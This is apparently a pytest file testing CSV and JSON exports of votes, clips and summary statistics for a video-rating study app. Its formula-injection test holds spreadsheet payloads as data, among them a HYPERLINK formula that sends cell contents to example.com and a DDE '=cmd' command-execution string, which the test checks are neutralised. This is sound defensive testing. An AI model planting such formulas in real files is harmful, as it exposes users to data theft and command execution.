"""Exports on SQLite and PostgreSQL: votes.csv and clips.csv stream and parse back with the csv
module to exactly the database's rows; cells that a spreadsheet would run as formulas are
neutralised; summary.csv / summary.json hold the dashboard's statistics; the CLI writes them."""

from __future__ import annotations

import csv
import inspect
import io
import json
import re

import pytest
from sqlalchemy import func, select, update
from typer.testing import CliRunner

from app.clips.models import Clip
from app.config import get_settings
from app.dashboard import service as dashboard_service
from app.dashboard.schemas import Filters
from app.exports import service
from app.rating.models import Evaluator, Vote
from app.studies import service as studies_service
from app.studies.models import StudyStatus
from app.studies.studyfile import parse_study
from tests.kit.admin import log_in
from tests.kit.studies import mark_clips_done, rating_study, study_toml
from tests.kit.votes import cast_votes

FAVORED = "quokka-arm"
RATES = {"video_text_relevance": 0.7, "motion_naturalness": 0.5, "overall_quality": 0.4}
ISO = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
EVIL = [
    ('=HYPERLINK("http://example.com/x?"&A1,"click")', "+theme"),
    ("-2+3 a plain prompt that starts with a minus", "@SUM(A1:A9)"),
    ("@cmd a prompt starting with an at sign", "-minus theme"),
]


def parse(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "CSV files start with a byte-order mark for Excel"
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def count(session, model) -> int:  # type: ignore[no-untyped-def]
    n = session.scalar(select(func.count(model.id)))
    session.rollback()
    return n


@pytest.fixture
def voted(session, settings):  # type: ignore[no-untyped-def]
    study = rating_study(
        session, settings, slug="exports", prompts=4, open_enrollment=True,
        repeat_trials=1, fast_trial_seconds=1.0,
    )  # fmt: skip
    cast = cast_votes(
        session, settings, study, favored=FAVORED, rates=RATES, evaluators=3, careless=1
    )
    session.rollback()
    return study, cast


def test_votes_csv_has_one_row_per_vote_with_who_saw_what(voted, client, session):
    study, cast = voted
    log_in(client)
    response = client.get(f"/admin/studies/{study.slug}/export/votes.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="exports-votes.csv"'
    assert "content-length" not in response.headers  # streamed
    rows = parse(response.text)
    assert len(rows) == count(session, Vote) == cast.votes == 3 * 5 * 3
    assert list(rows[0]) == list(service.VOTE_COLUMNS)
    careless = str(cast.evaluators[0])
    for row in rows:
        assert row["study"] == "exports"
        assert row["winner"] == cast.winners[(int(row["trial_id"]), row["criterion"])]
        shown = {"left": row["left_arm"], "right": row["right_arm"], "tie": "tie"}
        assert row["winner"] == shown[row["choice"]]
        assert {row["left_arm"], row["right_arm"]} == {"zebra-arm", "quokka-arm"}
        assert row["left_clip_id"] != row["right_clip_id"]
        assert ISO.match(row["shown_at"]) and ISO.match(row["answered_at"])
        assert row["response_ms"] == ("300" if row["evaluator_id"] == careless else "4000")
        assert row["flagged"] == ("true" if row["evaluator_id"] == careless else row["flagged"])
        assert row["is_repeat"] in ("true", "false") and row["external_id"].startswith("sim-")
    assert sum(r["is_repeat"] == "true" for r in rows) == 3 * 3  # one repeat each
    assert [int(r["vote_id"]) for r in rows] == sorted(int(r["vote_id"]) for r in rows)


def test_votes_stream_in_chunks_from_a_generator(voted, client, session, monkeypatch):
    study, _ = voted
    rows = service.vote_rows(session=session, study=study)
    assert inspect.isgenerator(rows)
    rows.close()
    session.rollback()
    monkeypatch.setattr(service, "CHUNK_CHARS", 512)
    monkeypatch.setattr(service, "WRITE_ROWS", 4)
    log_in(client)
    with client.stream("GET", f"/admin/studies/{study.slug}/export/votes.csv") as response:
        chunks = list(response.iter_raw())
    assert len(chunks) > 5
    assert len(parse(b"".join(chunks).decode())) == 45


def test_formulas_in_prompts_themes_and_ids_are_neutralised(client, session, settings):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["prompt", "theme", "seed"])
    writer.writerows([text, theme, i + 1] for i, (text, theme) in enumerate(EVIL))
    draft = parse_study(
        toml_text=study_toml(slug="evil", rating={"open_enrollment": True}),
        toml_name="study.toml",
        prompts_bytes=buffer.getvalue().encode(),
        prompts_name="prompts.csv",
    )
    study = studies_service.create(session=session, draft=draft)
    study.status = StudyStatus.open
    mark_clips_done(session, settings, study)
    session.commit()
    cast_votes(session, settings, study, favored=FAVORED, rates=RATES, evaluators=1)
    session.execute(update(Evaluator).values(external_id="=cmd|' /C calc'!A0"))
    session.commit()
    log_in(client)
    votes = parse(client.get(f"/admin/studies/{study.slug}/export/votes.csv").text)
    clips = parse(client.get(f"/admin/studies/{study.slug}/export/clips.csv").text)
    safe = {f"'{text}" for text, _ in EVIL} | {f"'{theme}" for _, theme in EVIL}
    assert {r["prompt"] for r in votes} | {r["theme"] for r in votes} == safe
    assert {r["prompt"] for r in clips} | {r["theme"] for r in clips} == safe
    assert {r["external_id"] for r in votes} == {"'=cmd|' /C calc'!A0"}
    assert all(not cell.startswith(service.FORMULA_PREFIXES) for r in votes for cell in r.values())


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
        ("\rx", "'\rx"), ("a=1", "a=1"), (-1, -1), (0.5, 0.5), (None, ""), (True, "true"),
    ],
)  # fmt: skip
def test_safe_cell(value, cell):
    assert service.safe_cell(value) == cell


def test_clips_csv_is_the_render_manifest(client, session, settings):
    study = rating_study(session, settings, slug="manifest", prompts=3)
    telemetry = {
        "denoise_s": 1.25, "total_s": 1.5, "denoiser_passes": 74, "steps": 37,
        "device": "cuda", "peak_memory_bytes": 9_000_000_000,
        "models": {"base_model": "acme-labs/zz-base-model", "revision": None},
    }  # fmt: skip
    session.execute(update(Clip).values(telemetry=telemetry))
    session.commit()
    log_in(client)
    rows = parse(client.get(f"/admin/studies/{study.slug}/export/clips.csv").text)
    assert len(rows) == count(session, Clip) == 6
    row = next(r for r in rows if r["arm"] == "zebra-arm")
    assert row["arm_kind"] == "animatediff" and row["arm_steps"] == "37"
    assert row["arm_guidance_scale"] == "7.5"
    assert row["arm_scheduler"] == "ddim" and row["arm_scheduler_beta_schedule"] == "linear"
    assert row["arm_num_frames"] == "4" and row["arm_fps"] == "8" and row["seed"]
    assert len(row["sha256"]) == 64 and row["storage_key"] and int(row["size_bytes"]) > 0
    assert row["num_frames"] == "4" and row["status"] == "done"
    assert row["telemetry_denoise_s"] == "1.25" and row["telemetry_denoiser_passes"] == "74"
    assert row["telemetry_models_base_model"] == "acme-labs/zz-base-model"
    assert row["telemetry_steps"] == "37"  # telemetry keys are prefixed, like the arm's settings


def test_summary_csv_and_json_hold_the_dashboard_statistics(voted, client, session):
    study, _ = voted
    d = dashboard_service.live(
        session=session, study=study, filters=Filters(), cache=dashboard_service.DashboardCache()
    )
    session.rollback()
    log_in(client)
    rows = parse(client.get(f"/admin/studies/{study.slug}/export/summary.csv").text)
    tables = {r["table"] for r in rows}
    assert {"pairwise", "pairwise_by_theme", "power", "position_bias", "bradley_terry",
            "bootstrap_win_rate", "agreement", "evaluator_quality", "speed"} <= tables  # fmt: skip
    pairwise = {r["criterion"]: r for r in rows if r["table"] == "pairwise"}
    for r in d.summary.overall:
        assert (pairwise[r.criterion]["wins"], pairwise[r.criterion]["losses"]) == (
            str(r.wins), str(r.losses),
        )  # fmt: skip
        assert float(pairwise[r.criterion]["ci_low"]) == pytest.approx(r.ci_low)
    response = client.get(
        f"/admin/studies/{study.slug}/export/summary.json", params={"exclude_ties": 1}
    )
    assert response.headers["content-type"] == "application/json"
    document = json.loads(response.text)
    assert document["study"] == "exports" and document["filters"]["exclude_ties"] is True
    assert all(r["ties"] == 0 for r in document["tables"]["pairwise"])
    assert len(document["tables"]["evaluator_quality"]) == 3


@pytest.fixture
def cli_env(monkeypatch, settings):  # type: ignore[no-untyped-def]
    """The CLI in this process, configured like a user's shell for this test's database."""
    monkeypatch.setenv("VIDARENA_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("VIDARENA_VAR_DIR", str(settings.var_dir))
    get_settings.cache_clear()
    yield CliRunner()
    get_settings.cache_clear()


def test_cli_exports_votes_clips_and_summary(voted, cli_env, tmp_path, session):
    from app.cli import app

    study, cast = voted
    votes_file, clips_file = tmp_path / "votes.csv", tmp_path / "clips.csv"
    for kind, path in (("votes", votes_file), ("clips", clips_file)):
        result = cli_env.invoke(app, ["export", kind, study.slug, "-o", str(path)])
        assert result.exit_code == 0, result.output
    assert len(parse(votes_file.read_text(encoding="utf-8"))) == cast.votes
    assert len(parse(clips_file.read_text(encoding="utf-8"))) == 8
    piped = cli_env.invoke(app, ["export", "votes", study.slug])
    assert piped.exit_code == 0 and piped.stdout.startswith("study,vote_id,")  # no BOM on a pipe
    summary = tmp_path / "summary.json"
    result = cli_env.invoke(
        app, ["export", "summary", study.slug, "-o", str(summary), "--arm", FAVORED]
    )
    assert result.exit_code == 0, result.output
    document = json.loads(summary.read_text())
    assert document["focus_arm"] == FAVORED and document["tables"]["pairwise"][0]["arm"] == FAVORED
    missing = cli_env.invoke(app, ["export", "votes", "no-such-study"])
    assert missing.exit_code == 2 and "no study with slug" in missing.output
